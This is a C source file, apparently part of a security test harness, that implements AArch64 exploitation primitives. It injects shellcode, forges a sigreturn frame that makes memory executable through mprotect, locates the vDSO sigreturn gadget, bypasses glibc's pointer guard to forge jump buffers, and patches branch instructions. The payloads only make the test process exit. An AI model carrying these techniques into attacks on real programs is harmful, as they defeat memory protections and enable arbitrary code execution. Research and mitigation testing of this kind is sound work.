/* What attacks know of A64: instructions as words, the kernel's signal frames, the C library's jump buffers. */
#define _GNU_SOURCE
#include "attack.h"

#include <signal.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

/* Code that was just written must be seen by what fetches instructions. */
static void write_code(char *to, const uint32_t *words, size_t n)
{
	memcpy(to, words, n * sizeof(*words));
	__builtin___clear_cache(to, to + n * sizeof(*words));
}

void exit_code(char *to, int status)
{
	/* mov w0, #status; mov w8, #94; svc #0 */
	const uint32_t code[] = {0x52800000u | (uint32_t)status << 5, 0x52800bc8, 0xd4000001};

	write_code(to, code, 3);
}

void lead_to_exit(word *stack)
{
	stack[0] = 0;
	stack[1] = (word)exit42;
}

size_t forge_frame(word *to, word *stack)
{
	struct {
		siginfo_t info;
		ucontext_t context;
	} *frame = (void *)to;
	/* Without a record of the vector registers the kernel takes no frame. */
	uint32_t *record = (uint32_t *)frame->context.uc_mcontext.__reserved;

	memset(frame, 0, sizeof(*frame));
	record[0] = 0x46508001;
	record[1] = 528;
	frame->context.uc_mcontext.regs[0] = (word)page;
	frame->context.uc_mcontext.regs[1] = page_size;
	frame->context.uc_mcontext.regs[2] = PROT_READ | PROT_EXEC;
	frame->context.uc_mcontext.regs[8] = SYS_mprotect;
	frame->context.uc_mcontext.pc = (word)g_syscall;
	lead_to_exit(stack);
	frame->context.uc_mcontext.sp = (word)stack;
	return sizeof(*frame) / sizeof(word);
}

/* The kernel's own, in the vDSO: mov x8, #139; svc #0 */
word restorer(void)
{
	const uint32_t *at = (const uint32_t *)getauxval(AT_SYSINFO_EHDR);

	for (size_t i = 0; at && i < 1024; i++) {
		if (at[i] == 0xd2801168 && at[i + 1] == 0xd4000001)
			return (word)&at[i];
	}
	_exit(4);
}

/* Its call of setjmp returns to `guess_site`, so that what is in the buffer tells the guard. */
void guess_guard(void *buffer);
extern char guess_site[];

void forge_jump(void *buffer, word target, word *stack)
{
	word *saved = buffer, guard;

	guess_guard(buffer);
	guard = saved[11] ^ (word)guess_site;
	saved[11] = target ^ guard;
	saved[13] = (word)stack ^ guard;
}

void turn_jump(word target)
{
	const uint32_t branch = 0x14000000u | ((uint32_t)((long)(target - (word)patch_jump) >> 2) & 0x3ffffff);

	write_code(patch_jump, &branch, 1);
}
